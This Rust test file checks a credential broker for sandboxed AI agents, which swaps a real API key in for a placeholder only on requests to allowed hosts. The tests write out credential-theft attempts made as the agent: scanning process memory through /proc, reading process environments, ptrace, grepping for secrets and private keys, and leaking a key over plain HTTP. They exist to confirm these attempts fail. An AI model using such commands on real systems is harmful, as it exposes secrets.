//! Brokered credentials (issue 13): the agent holds a placeholder, the policy point swaps the
//! real value in toward bound hosts only. Every test runs as the agent's uid in the fake
//! internet of tests/common/net.rs, with an HTTPS server that echoes what it received and
//! whose test CA the test adds to the sandbox's CA store; raw `cred env` is the control.

mod common;

use common::net::{self, FakeInternet, policy_point};
use common::{Background, Out, Sandbox};

/// The real value: never in anything the agent can read.
const REAL: &str = "sk-ant-api03-REALsecretVALUE0123456789abcdefXYZ";
/// The real value of the audit test (see there).
const AUDIT_REAL: &str = "sk-ant-api03-AUDITsecretVALUE0123456789abcdefXY";
/// A raw (not brokered) credential, the positive control.
const RAW: &str = "ghp_RAWtokenVALUE0123456789abcdefghij";
/// The address of the echoing HTTPS server.
const ECHO_V4: &str = "11.22.33.5";

/// HTTPS (TLS 1.2+, the test CA's leaf) answering every request with what it received:
/// request line, headers and body.
const ECHO_HTTPS: &str = r#"
import http.server, socket, ssl, sys
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    def answer(self):
        n = int(self.headers.get('Content-Length') or 0)
        body = self.rfile.read(n) if n else b''
        text = ('%s %s\n%s\n' % (self.command, self.path, self.headers)).encode() + body
        self.send_response(200); self.send_header('Content-Length', str(len(text))); self.end_headers()
        self.wfile.write(text)
    do_GET = do_POST = answer
    def log_message(self, *a): pass
srv = http.server.ThreadingHTTPServer((sys.argv[1], 443), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(sys.argv[2], sys.argv[3])
srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
print('ready', flush=True)
srv.serve_forever()
"#;

fn run_host(script: &str) {
    let out = std::process::Command::new("/bin/sh")
        .args(["-ec", script])
        .output()
        .unwrap();
    assert!(out.status.success(), "{script}: {out:?}");
}

/// alice, her agent coder (allowlist: api.test, other.test, web.test), the fake internet
/// with the echo server, and the test CA in the sandbox's CA store.
fn setup(name: &str) -> (Sandbox, FakeInternet) {
    let sb = Sandbox::new(name);
    sb.alice_and_coder();
    let mut internet = FakeInternet::start(
        &sb,
        &[
            ("api.test", &[ECHO_V4]),
            ("other.test", &[ECHO_V4]),
            ("web.test", &[net::WEB_V4]),
        ],
    );
    let d = sb.dir.display();
    run_host(&format!(
        "cd {d}
         openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 \
           -subj /CN=test-ca -keyout ca.key -out ca.pem 2>/dev/null
         openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=api.test \
           -keyout leaf.key -out leaf.csr 2>/dev/null
         printf 'subjectAltName=DNS:api.test,DNS:other.test\\nbasicConstraints=CA:FALSE\\n' > ext
         openssl x509 -req -in leaf.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 \
           -extfile ext -out leaf.pem 2>/dev/null
         cat ca.pem >> etc/ssl/certs/ca-certificates.crt"
    ));
    internet.internet_ip(&["addr", "add", &format!("{ECHO_V4}/24"), "dev", "vi"]);
    let (leaf, key) = (format!("{d}/leaf.pem"), format!("{d}/leaf.key"));
    internet.serve(&["python3", "-c", ECHO_HTTPS, ECHO_V4, &leaf, &key]);
    sb.as_user(
        "alice",
        &[
            "net",
            "coder",
            "allow",
            "api.test",
            "other.test",
            "web.test",
        ],
    )
    .ok();
    (sb, internet)
}

/// `agentuser ARGS` as alice with `value` on standard input.
fn with_stdin(sb: &Sandbox, args: &[&str], value: &str) -> Out {
    sb.run_with_stdin(sb.user_command("alice", args), value.as_bytes())
}

/// Stores REAL as coder's ANTHROPIC_API_KEY, brokered toward api.test.
fn broker_real(sb: &Sandbox) {
    broker_value(sb, REAL);
}

/// `cred env coder ANTHROPIC_API_KEY --host api.test` with `value`.
fn broker_value(sb: &Sandbox, value: &str) {
    let args = [
        "cred",
        "env",
        "coder",
        "ANTHROPIC_API_KEY",
        "--host",
        "api.test",
    ];
    with_stdin(sb, &args, value).ok();
}

fn exec(sb: &Sandbox, script: &str) -> Out {
    sb.exec_sh("alice", "coder", script)
}

/// Each line `NAME:` then what the command printed (one line), so results can be looked up.
const REQUESTS: &str = r#"
r() { name=$1; shift; printf '%s:%s\n' "$name" "$("$@" 2>&1 | tr '\n' '|')"; }
K=$ANTHROPIC_API_KEY
printf 'ENV:%s\n' "$K"
printf 'RAWENV:%s\n' "$RAW_TOKEN"
r bound-proxy curl -s -m 10 https://api.test/v1/messages -H "x-api-key: $K"
r bound-direct curl -s -m 10 --noproxy '*' "https://api.test/v1/q?key=$K" -H "Authorization: Bearer $K"
r bound-python python3 -c 'import os,urllib.request as u; print(u.urlopen(u.Request("https://api.test/py", headers={"x-api-key": os.environ["ANTHROPIC_API_KEY"]})).read().decode())'
r bound-basic curl -s -m 10 -u "x-access-token:$K" https://api.test/basic
r host-header curl -s -m 10 https://api.test/h -H "x-api-key: $K" -H 'Host: evil.test'
r unbound-tls curl -s -m 10 https://other.test/ -H "x-api-key: $K"
r unbound-plain-proxy curl -s -m 10 -w '%{http_code}' "http://web.test/?k=$K"
r unbound-plain-direct curl -s -m 10 -w '%{http_code}' --noproxy '*' http://web.test/ -H "x-api-key: $K"
r raw-plain curl -s -m 10 -w '%{http_code}' "http://web.test/?k=$RAW_TOKEN"
r pinned python3 -c 'import ssl,urllib.request as u; c=ssl.create_default_context(cafile="/tmp/test-ca.pem"); print(u.urlopen("https://api.test/pin", context=c).read().decode())'
r home-files sh -c 'grep -rl "REALsecret" "$HOME" /tmp 2>/dev/null; echo done'
r proc-environ sh -c 'cat /proc/[0-9]*/environ 2>/dev/null | tr "\0" "\n" | grep -c REALsecret'
"#;

fn results(out: &Out) -> std::collections::BTreeMap<String, String> {
    out.stdout
        .lines()
        .filter_map(|l| l.split_once(':'))
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

#[test]
fn the_agent_holds_a_placeholder_and_the_value_reaches_bound_hosts_only() {
    let (sb, _internet) = setup("broker-env");
    with_stdin(
        &sb,
        &[
            "cred",
            "env",
            "coder",
            "ANTHROPIC_API_KEY",
            "--host",
            "API.test",
        ],
        &format!("{REAL}\n"),
    )
    .ok();
    // The control: a raw credential.
    with_stdin(&sb, &["cred", "env", "coder", "RAW_TOKEN"], RAW).ok();
    let ca = std::fs::read_to_string(sb.dir.join("ca.pem")).unwrap();
    let script = format!("printf '%s' '{ca}' > /tmp/test-ca.pem\n{REQUESTS}");
    let out = exec(&sb, &script);
    let r = results(&out);
    let placeholder = r["ENV"].clone();
    assert_eq!(placeholder.len(), REAL.len(), "{out:#?}");
    assert!(placeholder.starts_with("sk-ant-api03-"), "{out:#?}");
    assert_ne!(placeholder, REAL);
    // The control: the raw value is in the agent's environment and goes anywhere.
    assert_eq!(r["RAWENV"], RAW);
    assert!(
        r["raw-plain"].contains("hello from") && r["raw-plain"].ends_with("200"),
        "{out:#?}"
    );

    // Bound host, through the proxy and captured: the server got the real value, in the
    // headers and the URL, and the Host header it was connected for.
    assert!(
        r["bound-proxy"].contains(&format!("x-api-key: {REAL}")),
        "{out:#?}"
    );
    assert!(
        r["bound-direct"].contains(&format!("/v1/q?key={REAL}")),
        "{out:#?}"
    );
    assert!(
        r["bound-direct"].contains(&format!("Authorization: Bearer {REAL}")),
        "{out:#?}"
    );
    assert!(
        r["bound-python"].contains(&format!("X-Api-Key: {REAL}")),
        "{out:#?}"
    );
    assert!(r["host-header"].contains("Host: api.test|"), "{out:#?}");
    // A token sent as a password (curl -u, git's credential helpers): swapped inside the
    // Basic credentials.
    let basic = |text: &str| {
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD.encode(text)
    };
    assert!(
        r["bound-basic"].contains(&format!(
            "Authorization: Basic {}",
            basic(&format!("x-access-token:{REAL}"))
        )),
        "{out:#?}"
    );
    // Unbound host over TLS: an untouched tunnel, the server sees the placeholder only.
    assert!(
        r["unbound-tls"].contains(&format!("x-api-key: {placeholder}")),
        "{out:#?}"
    );
    assert!(!r["unbound-tls"].contains(REAL), "{out:#?}");
    // Plain HTTP to an allowed host: refused, proxy (403) or captured (connection closed).
    assert!(r["unbound-plain-proxy"].ends_with("403"), "{out:#?}");
    assert!(
        !r["unbound-plain-direct"].contains("hello from"),
        "{out:#?}"
    );
    // A client that trusts only its own CA (pinning) fails closed.
    assert!(
        r["pinned"].contains("CERTIFICATE_VERIFY_FAILED"),
        "{out:#?}"
    );
    assert!(!r["pinned"].contains("/pin"), "{out:#?}");
    // Nothing the agent reads holds the value.
    assert_eq!(r["home-files"], "done|", "{out:#?}");
    assert_eq!(r["proc-environ"], "0|", "{out:#?}");

    let log = sb.as_user("alice", &["net", "coder", "log"]).ok().stdout;
    for needle in [
        "web.test:80: placeholder of the brokered secret ANTHROPIC_API_KEY in a plain-HTTP request: likely exfiltration attempt",
        "web.test:80: placeholder of the brokered secret ANTHROPIC_API_KEY in a stream that is not TLS",
        "api.test:443: TLS with the agent's client failed",
    ] {
        assert!(log.contains(needle), "log lacks {needle:?}: {log}");
    }
    assert!(!log.contains("REALsecret"), "{log}");
    assert!(
        !std::fs::read_to_string(sb.host_path("/var/lib/agentuser/netlog/coder.log"))
            .unwrap()
            .contains("REALsecret")
    );
    // Stored root-only; show and cred list never print it.
    let show = sb.root(&["show", "coder", "--json"]).ok().stdout;
    assert!(
        !show.contains("REALsecret") && !show.contains(&placeholder),
        "{show}"
    );
}

/// Looks for argv[2] in the writable memory of process argv[1]: FOUND, ABSENT, or DENIED
/// (with the error) when the memory cannot be read.
const SCAN_MEMORY: &str = r#"
import re, sys
pid, needle = sys.argv[1], sys.argv[2].encode()
try:
    maps = open('/proc/%s/maps' % pid).read().splitlines()
    mem = open('/proc/%s/mem' % pid, 'rb', 0)
    for line in maps:
        m = re.match(r'([0-9a-f]+)-([0-9a-f]+) rw', line)
        if not m: continue
        start, end = int(m.group(1), 16), int(m.group(2), 16)
        try:
            mem.seek(start); data = mem.read(end - start)
        except OSError:
            continue
        if needle in data:
            print('FOUND'); sys.exit(0)
    print('ABSENT')
except OSError as e:
    print('DENIED', e)
"#;

#[test]
fn the_real_value_is_out_of_the_agents_reach_and_audit_flags_raw_values() {
    let (sb, _internet) = setup("broker-reach");
    broker_real(&sb);
    std::fs::write(sb.dir.join("tmp/scan.py"), SCAN_MEMORY).unwrap();
    let (run, line) = Background::start(sb.exec_sh_command(
        "alice",
        "coder",
        "curl -s -m 10 https://api.test/ -H \"x-api-key: $ANTHROPIC_API_KEY\" >/dev/null; \
         echo started; sleep 60",
    ));
    assert_eq!(line, "started\n");
    let (pid, _) = policy_point(&sb);
    // Control: the value is in the policy point's memory (root reads it there), and the
    // agent's uid reads the memory of a process of its own holding it.
    let root = sb.sh(&format!("python3 /tmp/scan.py {pid} {REAL}")).stdout;
    assert_eq!(root.trim(), "FOUND", "control (root): {root}");
    let (own, _) = Background::start(sb.command_as(
        "agent-coder",
        &[
            "python3", "-c",
            &format!("import time; s = ''.join(['{REAL}'[:10], '{}']); print('up', flush=True); time.sleep(60)", &REAL[10..]),
        ],
    ));
    let control = sb
        .sh_as(
            "agent-coder",
            &format!("python3 /tmp/scan.py {} {REAL}", own.id()),
        )
        .stdout;
    assert_eq!(control.trim(), "FOUND", "control (own process): {control}");
    drop(own);
    // The attacks, as the agent's uid at its most powerful (outside any view).
    let attack = sb
        .sh_as(
            "agent-coder",
            &format!(
                "python3 /tmp/scan.py {pid} {REAL}; \
                 tr '\\0' '\\n' < /proc/{pid}/environ 2>/dev/null | grep -c REALsecret; \
                 python3 -c 'import ctypes,sys; l=ctypes.CDLL(None); sys.exit(0 if l.ptrace(16,{pid},0,0)==0 else 1)' && echo TRACED; \
                 kill -SEGV {pid} 2>/dev/null && echo SIGNALLED; \
                 grep -rl 'PRIVATE KEY' /var/lib/agentuser /tmp /var/tmp 2>/dev/null; echo end"
            ),
        )
        .stdout;
    assert!(attack.starts_with("DENIED"), "{attack}");
    assert!(
        !attack.contains("TRACED") && !attack.contains("SIGNALLED"),
        "{attack}"
    );
    assert!(attack.ends_with("0\nend\n"), "{attack}");
    // Not dumpable: no core dump, and its /proc files are root's.
    let status = sb
        .sh(&format!(
            "stat -c %u /proc/{pid}/mem; grep -c . /proc/{pid}/coredump_filter"
        ))
        .stdout;
    assert!(status.starts_with("0\n"), "{status}");
    // The CA key is in no file, root's included.
    let keys = sb
        .sh("grep -rl 'PRIVATE KEY' /var/lib/agentuser; echo end")
        .stdout;
    assert_eq!(keys, "end\n");
    drop(run);

    // audit: a raw env value is flagged, the brokered one is not.
    with_stdin(&sb, &["cred", "env", "coder", "RAW_TOKEN"], RAW).ok();
    let audit = sb.as_user("alice", &["audit", "coder", "--json"]).json();
    let findings = audit["findings"].as_array().unwrap();
    let raw: Vec<_> = findings
        .iter()
        .filter(|f| f["category"] == "raw-secret")
        .map(|f| f["subject"].as_str().unwrap())
        .collect();
    assert_eq!(raw, ["env RAW_TOKEN"], "{audit:#}");
}

const AUTH: &str = "/home/alice/.config/opencode/auth.json";
const AUTH_COPY: &str = "/var/lib/agentuser/homes/agent-coder/.config/opencode/auth.json";

fn auth_json(key: &str, extra: &str) -> String {
    format!("{{\"anthropic\":{{\"type\":\"api\",\"key\":\"{key}\"}}{extra}}}\n")
}

/// alice's opencode auth file (AUTH, 0600), holding REAL.
fn write_auth(sb: &Sandbox) {
    let auth = auth_json(REAL, "");
    let script = format!(
        "umask 077; mkdir -p /home/alice/.config/opencode && printf '%s' '{auth}' > {AUTH}"
    );
    sb.sh_as("alice", &script).ok();
}

/// (state, sha256) of each credential as `cred list` shows them.
fn cred_states(sb: &Sandbox) -> Vec<(String, String)> {
    let list = sb
        .as_user("alice", &["cred", "list", "coder", "--json"])
        .ok()
        .json();
    list.as_array()
        .unwrap()
        .iter()
        .map(|c| {
            let sha = c["sha256"].as_str().unwrap_or("-").to_string();
            (c["state"].as_str().unwrap().to_string(), sha)
        })
        .collect()
}

fn sha256_of(sb: &Sandbox, inside: &str) -> String {
    let out = sb.sh(&format!("sha256sum {inside}")).ok().stdout;
    out.split_whitespace().next().unwrap().to_string()
}

/// As the agent: every file it can read in its home and /tmp that holds the real value.
const FIND_VALUE: &str = "grep -rl REALsecret \"$HOME\" /tmp 2>/dev/null; echo end";

#[test]
fn a_copied_file_carries_the_placeholder_and_drift_tracking_follows_the_real_file() {
    let (sb, _internet) = setup("broker-copy");
    write_auth(&sb);
    // The control: a copy made while the secret is not brokered holds the real value.
    sb.as_user("alice", &["cred", "add", "coder", AUTH]).ok();
    let leaked = std::fs::read_to_string(sb.host_path(AUTH_COPY)).unwrap();
    assert!(leaked.contains(REAL), "control: {leaked}");

    // Brokered after the copy: the copy is masked at once.
    broker_real(&sb);
    let placeholder = exec(&sb, "printf %s \"$ANTHROPIC_API_KEY\"").ok().stdout;
    assert_eq!(placeholder.len(), REAL.len());
    let copy = std::fs::read_to_string(sb.host_path(AUTH_COPY)).unwrap();
    assert_eq!(copy, auth_json(&placeholder, ""));
    let found = exec(&sb, FIND_VALUE).ok().stdout;
    assert_eq!(found, "end\n", "the agent reads the value in: {found}");
    // Drift tracking: the source's digest is the real file's, the state ok.
    let real_sha = sha256_of(&sb, AUTH);
    assert_eq!(
        cred_states(&sb),
        [("ok".into(), real_sha.clone()), ("ok".into(), "-".into())]
    );

    // The owner rotates the file: reported, synced with the value masked again.
    sb.sh_as(
        "alice",
        &format!("printf '%s' '{}' > {AUTH}", auth_json(REAL, ",\"v\":2")),
    )
    .ok();
    assert_eq!(cred_states(&sb)[0].0, "source-changed");
    let synced = sb.as_user("alice", &["cred", "sync", "coder"]).ok().stdout;
    assert!(synced.contains("source changed, copied again"), "{synced}");
    let copy = std::fs::read_to_string(sb.host_path(AUTH_COPY)).unwrap();
    assert_eq!(copy, auth_json(&placeholder, ",\"v\":2"));
    assert_eq!(cred_states(&sb)[0], ("ok".into(), sha256_of(&sb, AUTH)));

    // The placeholder read from the copy reaches the bound host as the real value, and
    // nothing the agent reads holds the value.
    let script = format!(
        "K=$(python3 -c 'import json,os; print(json.load(open(os.path.expanduser(\"~/.config/opencode/auth.json\")))[\"anthropic\"][\"key\"])')
         curl -s -m 10 https://api.test/copy -H \"x-api-key: $K\" | tr '\\n' '|'; echo
         {FIND_VALUE}"
    );
    let out = exec(&sb, &script).ok().stdout;
    assert!(out.contains(&format!("x-api-key: {REAL}|")), "{out}");
    assert!(
        out.ends_with("\nend\n"),
        "the agent reads the value in: {out}"
    );

    // Brokered before the copy: the copy is made with the placeholder.
    sb.sh_as(
        "alice",
        &format!("umask 077; printf 'oauth_token: {REAL}\n' > /home/alice/hosts.yml"),
    )
    .ok();
    sb.as_user("alice", &["cred", "add", "coder", "/home/alice/hosts.yml"])
        .ok();
    let copy =
        std::fs::read_to_string(sb.host_path("/var/lib/agentuser/homes/agent-coder/hosts.yml"))
            .unwrap();
    assert_eq!(copy, format!("oauth_token: {placeholder}\n"));
    let states: Vec<String> = cred_states(&sb).into_iter().map(|s| s.0).collect();
    assert_eq!(states, ["ok", "ok", "ok"]);

    // A copy the agent changes is still detected, and kept.
    exec(&sb, "printf changed > ~/.config/opencode/auth.json").ok();
    assert_eq!(cred_states(&sb)[0].0, "agent-modified");
    sb.as_user("alice", &["cred", "sync", "coder"]).ok();
    assert_eq!(
        std::fs::read_to_string(sb.host_path(AUTH_COPY)).unwrap(),
        "changed"
    );
}

/// The `brokered-value` findings of `audit coder` as (subject, severity, views), and the
/// whole output (which must never hold the value).
fn exposure(sb: &Sandbox) -> (Vec<(String, String, String)>, String) {
    let out = sb.as_user("alice", &["audit", "coder", "--json"]);
    let text = format!("{}{}", out.stdout, out.stderr);
    let report = out.json();
    let hits = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["category"] == "brokered-value" || f["subject"] == "brokered secrets")
        .map(|f| {
            (
                f["subject"].as_str().unwrap().to_string(),
                f["severity"].as_str().unwrap().to_string(),
                f["views"].to_string(),
            )
        })
        .collect();
    (hits, text)
}

#[test]
fn audit_finds_a_brokered_value_wherever_the_agent_can_read_it() {
    let (sb, _internet) = setup("broker-audit");
    // A value of this test's own: the other tests of this binary run at the same time and
    // put REAL in command lines of root's processes, which the audit's host view reads.
    broker_value(&sb, AUDIT_REAL);
    // Nothing leaked: no hit. A file holding the value that the agent cannot read (root's,
    // 0600, in its home) is no hit either: the search has the agent's rights, not root's.
    let home = "/var/lib/agentuser/homes/agent-coder";
    sb.sh(&format!(
        "mkdir -p {home}/notes && printf 'k={AUDIT_REAL}' > {home}/notes/root-only && \
         chmod 600 {home}/notes/root-only && chmod 755 {home}/notes"
    ))
    .ok();
    let (hits, text) = exposure(&sb);
    assert_eq!(hits, [], "{text}");
    assert!(!text.contains("AUDITsecret"), "{text}");

    // Leaked into a file the agent owns, and into the environment of a process of its uid.
    sb.sh(&format!(
        "printf 'token: {AUDIT_REAL}\\n' > {home}/notes/leak.txt && \
         chown agent-coder: {home}/notes/leak.txt && chmod 600 {home}/notes/leak.txt"
    ))
    .ok();
    let leaked = format!("LEAKED={AUDIT_REAL}");
    let (process, _) = Background::start(sb.command_as(
        "agent-coder",
        &["env", &leaked, "sh", "-c", "echo up; sleep 60"],
    ));
    let (hits, text) = exposure(&sb);
    drop(process);
    let leak = format!("{home}/notes/leak.txt");
    assert!(
        hits.contains(&(leak.clone(), "high".into(), r#"["view","host"]"#.into())),
        "{text}"
    );
    assert!(
        hits.iter()
            .any(|h| h.0.ends_with(": its environment") && h.1 == "high"),
        "{text}"
    );
    // The shell and its sleep: every other hit is a process environment.
    assert!(
        hits.iter()
            .filter(|h| h.0 != leak)
            .all(|h| h.0.ends_with(": its environment")),
        "{text}"
    );
    assert!(!text.contains("AUDITsecret"), "{text}");
}

/// The files of the state directory's secrets and records that hold the real value or the
/// placeholder.
fn stored(sb: &Sandbox, placeholder: &str) -> String {
    sb.sh(&format!(
        "grep -rlF -e '{REAL}' -e '{placeholder}' /var/lib/agentuser/secrets \
         /var/lib/agentuser/agents; true"
    ))
    .ok()
    .stdout
}

/// `cred rm` of a brokered secret: no stored value or placeholder is left in the state
/// directory, the agent's environment loses the variable, the placeholder it may have kept
/// is no longer swapped, and a copied file that carried the placeholder carries the real
/// file's content again at the next run (as any copy of an unbrokered value does).
#[test]
fn cred_rm_of_a_brokered_secret_leaves_no_trace_of_it() {
    let (sb, _internet) = setup("broker-rm");
    write_auth(&sb);
    broker_real(&sb);
    sb.as_user("alice", &["cred", "add", "coder", AUTH]).ok();
    let request = "curl -s -m 10 https://api.test/rm -H \"x-api-key: $K\" | tr '\\n' '|'";
    let before = exec(
        &sb,
        &format!("K=$ANTHROPIC_API_KEY; printf '%s\\n' \"$K\"; {request}"),
    )
    .ok()
    .stdout;
    let (placeholder, answer) = before.split_once('\n').unwrap();
    // Control: brokered, the placeholder is in the copy and is swapped toward api.test.
    assert_eq!(placeholder.len(), REAL.len());
    assert!(answer.contains(&format!("x-api-key: {REAL}|")), "{before}");
    let copy = std::fs::read_to_string(sb.host_path(AUTH_COPY)).unwrap();
    assert_eq!(copy, auth_json(placeholder, ""));

    // Control: the state directory holds both, the agent's record the placeholder.
    let held = stored(&sb, placeholder);
    assert!(held.contains("secrets/coder/"), "{held}");
    sb.as_user("alice", &["cred", "rm", "coder", "ANTHROPIC_API_KEY"])
        .ok();
    let listed = sb
        .as_user("alice", &["cred", "list", "coder", "--json"])
        .ok()
        .stdout;
    assert!(!listed.contains("ANTHROPIC_API_KEY"), "{listed}");
    assert_eq!(stored(&sb, placeholder), "", "kept after cred rm");

    let after = exec(
        &sb,
        &format!("printf '%s\\n' \"${{ANTHROPIC_API_KEY-unset}}\"; K='{placeholder}'; {request}"),
    )
    .ok()
    .stdout;
    let (env, answer) = after.split_once('\n').unwrap();
    assert_eq!(env, "unset", "{after}");
    assert!(!answer.contains(REAL), "{after}");
    assert!(
        answer.contains(&format!("x-api-key: {placeholder}|")),
        "{after}"
    );
    let copy = std::fs::read_to_string(sb.host_path(AUTH_COPY)).unwrap();
    assert_eq!(copy, auth_json(REAL, ""));
}
